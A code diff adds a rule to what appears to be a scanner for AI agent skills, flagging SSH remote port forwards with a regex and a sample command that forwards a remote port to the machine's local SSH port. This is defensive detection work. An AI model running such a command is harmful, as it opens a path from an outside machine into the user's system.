@@ -253,4 +253,21 @@ pub const RULES: &[Rule] = &[
             Domain::Command,
         )
     },
+    Rule {
+        title: "SSH remote port forward",
+        why: "opens an SSH remote forward: a port on someone else's machine leads straight into this one",
+        fix: "never open tunnels into the user's machine from a skill",
+        detect: pattern(
+            &["ssh"],
+            r"\bssh\b[^\n]*\s-[a-zA-Z]*R\s*(?:\d+:)?(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1\])?:?\d+",
+        ),
+        examples: &["ssh -R 9000:localhost:22 support@203.0.113.9 -N -f"],
+        clean: &["ssh -L 8080:localhost:80 me@myserver"],
+        ..Rule::base(
+            "ssh-remote-forward",
+            Network,
+            Severity::Critical,
+            Domain::Command,
+        )
+    },
 ];
